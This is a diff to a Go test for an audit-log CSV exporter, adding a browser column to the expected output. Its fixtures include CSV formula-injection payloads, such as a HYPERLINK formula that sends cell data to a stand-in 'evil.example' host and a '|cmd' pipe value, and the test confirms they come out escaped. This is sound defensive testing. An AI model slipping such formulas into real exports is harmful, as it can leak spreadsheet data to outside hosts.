@@ -91,7 +91,7 @@ func TestExportCSV(t *testing.T) {
 	for _, e := range []audit.Event{
 		{Kind: audit.LoginRefused, Outcome: "refused", Reason: "revoked", Detail: `=HYPERLINK("http://evil.example/"&A1)`, Issuer: "+1", Source: "-2+3|cmd"},
 		{Kind: audit.AdminAction, Actor: "@SUM(1)", Action: "\tx", Detail: "two\nlines, a comma and \"quotes\"", Service: "＝1", Client: "\r=1"}, // a bare \r has no place in CSV
-		{Kind: audit.SessionEnded, Subject: "u-1", Detail: "plain = text"},
+		{Kind: audit.SessionEnded, Subject: "u-1", Browser: "Firefox 153, Linux", Detail: "plain = text"},
 	} {
 		if err := l.Record(e); err != nil {
 			t.Fatal(err)
@@ -105,13 +105,13 @@ func TestExportCSV(t *testing.T) {
 	records := w.records()
 	want := [][]string{
 		{"seq", "time", "kind", "outcome", "reason", "subject", "session", "actor", "action", "method", "factor", "acr", "source",
-			"fingerprint", "issuer", "service", "client", "support", "detail", "hash"},
+			"browser", "fingerprint", "issuer", "service", "client", "support", "detail", "hash"},
 		{"1", "2026-03-02T12:00:00.123456789Z", "login_refused", "refused", "revoked", "", "", "", "", "", "", "", "'-2+3|cmd",
-			"", "'+1", "", "", "", `'=HYPERLINK("http://evil.example/"&A1)`, records[0].Hash},
+			"", "", "'+1", "", "", "", `'=HYPERLINK("http://evil.example/"&A1)`, records[0].Hash},
 		{"2", "2026-03-02T12:00:01.123456789Z", "admin_action", "", "", "", "", "'@SUM(1)", "'\tx", "", "", "", "",
-			"", "", "'＝1", "'=1", "", "two\nlines, a comma and \"quotes\"", records[1].Hash},
+			"", "", "", "'＝1", "'=1", "", "two\nlines, a comma and \"quotes\"", records[1].Hash},
 		{"3", "2026-03-02T12:00:02.123456789Z", "session_ended", "", "", "u-1", "", "", "", "", "", "", "",
-			"", "", "", "", "", "plain = text", records[2].Hash},
+			"Firefox 153, Linux", "", "", "", "", "", "plain = text", records[2].Hash},
 	}
 	if diff := cmp.Diff(want, rows); diff != "" {
 		t.Errorf("rows (-want +got):\n%s", diff)
